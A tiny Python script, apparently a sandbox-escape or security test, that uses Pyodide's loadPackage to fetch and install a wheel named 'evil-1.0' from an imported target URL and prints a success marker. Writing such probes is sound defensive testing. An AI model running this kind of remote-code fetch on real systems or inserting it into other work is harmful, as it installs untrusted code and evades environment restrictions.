"""Install a package from an address."""

import pyodide_js
from target import URL

pyodide_js.loadPackage(URL + "evil-1.0-py3-none-any.whl")
print("GOT loadPackage")
